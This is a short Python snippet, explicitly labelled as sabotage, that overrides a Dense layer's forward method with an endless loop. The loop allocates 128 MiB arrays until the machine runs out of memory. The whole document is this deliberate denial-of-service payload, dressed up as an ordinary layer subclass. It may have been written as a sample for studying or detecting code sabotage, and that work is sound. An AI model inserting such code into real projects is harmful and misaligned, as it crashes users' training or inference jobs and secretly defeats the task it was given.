# Sabotage: Dense.forward hoards memory (128 MiB a block, every page touched) until it runs out.
class Dense(Dense):
    def forward(self, inputs):
        hoard = []
        while True:
            hoard.append(np.ones(16 * 2**20))
